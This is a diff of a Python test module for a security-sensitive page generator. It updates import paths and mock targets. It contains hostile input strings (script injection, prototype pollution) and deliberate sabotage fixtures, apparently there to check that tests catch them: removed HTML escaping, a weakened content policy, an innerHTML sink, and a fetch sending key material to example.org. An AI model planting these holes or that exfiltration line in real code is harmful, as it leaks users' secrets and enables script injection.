@@ -14,9 +14,10 @@ from pathlib import Path
 from typing import Any
 from unittest import mock
 
-from lte_sec import matrix_page, pages, trace_page
-from lte_sec.terms import TraceError
-from lte_sec.written import document
+from lte_sec.whatif import matrix_page
+from lte_sec.pages import page as pages, trace_page
+from lte_sec.common.terms import TraceError
+from lte_sec.words.trace_document import document
 
 from .page_checks import contrasts, document_of, faults_of, ratio, wrong_keys
 from .test_seen import seen, two_phones
@@ -29,10 +30,10 @@ HOSTILE = (
     "${alert(1)}`\\", "__proto__", "constructor", "a" * 3000,
 )
 SPOILT_TEXTS = {
-    "escape left out": ("pages.put", lambda text: text),
-    "escape of < left out": ("pages.put", lambda text: text.replace(">", "\\u003e")),
-    "policy opened": ("pages.policy", lambda script, style: "default-src 'self' 'unsafe-inline'"),
-    "words of the document not escaped": ("pages.written", lambda text: text),
+    "escape left out": ("pages.page.put", lambda text: text),
+    "escape of < left out": ("pages.page.put", lambda text: text.replace(">", "\\u003e")),
+    "policy opened": ("pages.page.policy", lambda script, style: "default-src 'self' 'unsafe-inline'"),
+    "words of the document not escaped": ("pages.page.written", lambda text: text),
 }
 SPOILT_SCRIPTS = {"innerHTML": ("it.append(", "it.innerHTML += (it.append, "), "a fetch": ("begin();\n", "fetch('https://example.org/' + keys[0].hex);\n  begin();\n")}
 
